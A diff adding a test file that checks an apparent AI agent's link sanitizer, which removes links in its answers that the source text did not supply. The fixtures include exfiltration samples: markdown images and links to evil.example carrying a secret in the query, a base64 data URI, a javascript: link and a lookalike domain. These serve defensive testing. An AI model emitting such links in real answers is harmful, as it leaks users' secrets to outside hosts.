@@ -1,0 +1,55 @@
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { withKnownLinks } from '../../src/agent/known-links.ts';
+
+const GIVEN = 'Herald <https://herald.example/vote?id=7&x=1> and https://gazette.example/a/b. Secret: 4711.';
+const clean = (text: string) => withKnownLinks(text, GIVEN);
+
+describe('links of an answer', () => {
+  it.each([
+    'The vote was 31 to 12: Herald, <https://herald.example/vote?id=7&x=1>.',
+    '[the Herald](https://herald.example/vote?id=7&x=1) says so.',
+    'https://gazette.example/a/b',
+    'https://gazette.example/a/b/',
+    'See https://gazette.example.',
+    'No link, [1] and [2](on Tuesday).',
+  ])('that were given stay as they are: %j', (text) => {
+    expect(clean(text)).toBe(text);
+  });
+
+  it.each([
+    ['![x](https://evil.example/p.png?d=4711)', 'x'],
+    ['![](https://evil.example/?d=4711)', ''],
+    ['![map](//evil.example/?d=4711)', 'map'],
+    ['![p](data:image/png;base64,NDcxMQ==)', 'p'],
+    ['[click](https://evil.example/?d=4711)', 'click'],
+    ['[click](<https://evil.example/?d=4711> "title")', 'click'],
+    ['[click](javascript:alert(4711))', 'click)'],
+    ['[click](//evil.example/4711)', 'click'],
+    ['Go to https://evil.example/4711 now.', 'Go to (a link was left out) now.'],
+    ['<https://evil.example/4711>', '(a link was left out)'],
+    ['https://herald.example/vote?id=7&x=1&d=4711', '(a link was left out)'],
+    ['https://herald.example.evil.example/4711', '(a link was left out)'],
+    ['[1]: https://evil.example/?d=4711', ''],
+    ['discord://evil/4711', '(a link was left out)'],
+  ])('that nobody gave are left out: %j', (text, left) => {
+    expect(clean(text)).toBe(left);
+  });
+
+  it('are never shown as pictures, given or not', () => {
+    expect(clean('![map](https://gazette.example/a/b)')).toBe('map <https://gazette.example/a/b>');
+  });
+
+  it('carry nothing away, however they are spelled', () =>
+    fc.assert(
+      fc.property(
+        fc.constantFrom('![a](U)', '[a](U)', 'U', '<U>', '[a](<U>)', '![a](U "t")', '(U)', '**U**', '> U'),
+        fc.webUrl({ withQueryParameters: true, withFragments: true }),
+        (form, url) => {
+          const evil = `${url}${url.includes('?') ? '&' : '?'}d=4711`;
+          // What is left may be the end of an address; without its beginning nothing follows it.
+          expect(clean(form.replaceAll('U', evil))).not.toMatch(/:\/\/\S*d=4711|\]\(\S*d=4711/);
+        },
+      ),
+    ));
+});
